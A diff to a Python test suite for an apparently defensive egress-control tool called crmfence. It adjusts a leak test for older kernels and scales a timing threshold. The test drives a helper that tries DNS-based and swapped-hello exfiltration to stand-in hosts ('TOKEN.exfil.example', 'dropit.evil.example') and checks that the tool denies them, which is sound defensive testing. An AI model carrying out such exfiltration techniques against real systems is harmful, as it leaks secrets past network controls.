@@ -293,6 +293,8 @@ def swapped_pages(w):
     their sender writes to again. Without crmfence it works; a session is refused, however it was begun."""
     bad = []
     shutil.copy("/usr/bin/python3", w.dir + "/assistantd")
+    ways = W.sh(W.BUILD + "/crmfence", "doctor", "--json", "--control", w.control, check=False).stdout
+    said = '"way":"shared pages"' in ways  # a kernel before 6.2: of a recognised session's hello nobody sees whose pages it has
     for args, reason in ((["dns-swap", DNS, "acme--ccccccc.vf.force.com", "TOKEN.exfil.example"], "dns-form"),
                          (["hello-swap", "models.acme.example", "dropit.evil.example"], "hello")):
         tok, own, launched = token(), token(), token()
@@ -301,7 +303,10 @@ def swapped_pages(w):
             bad.append("%s does not leak without crmfence: the case proves nothing" % args[0])
         before = len(w.rows("deny"))
         code, out = w.run(w.dir + "/assistantd", LEAK[1], *args, own, confined=False)
-        if w.arrived(own) or not any(d["reason"] == reason for d in w.rows("deny")[before:]):
+        if said and args[0] == "hello-swap":
+            if not w.arrived(own):
+                bad.append("doctor says that shared pages stay open, and they are held")
+        elif w.arrived(own) or not any(d["reason"] == reason for d in w.rows("deny")[before:]):
             bad.append("%s, recognised: %s arrived, %r, %s" % (args[0], w.arrived(own), out[-200:], w.rows("deny")[before:]))
         code, out = w.run(*LEAK, *args, launched)
         if w.arrived(launched):
@@ -334,7 +339,7 @@ def rotation(w):
             os.kill(int(pid), 1)
     out = p.communicate(timeout=30)[0]
     w.hosts()
-    return [] if p.returncode == 0 and int(out.split()[-2]) > 50 else ["calls failed: " + out[-300:]]
+    return [] if p.returncode == 0 and int(out.split()[-2]) > 50 / W.SLOW else ["calls failed: " + out[-300:]]
 
 
 @case
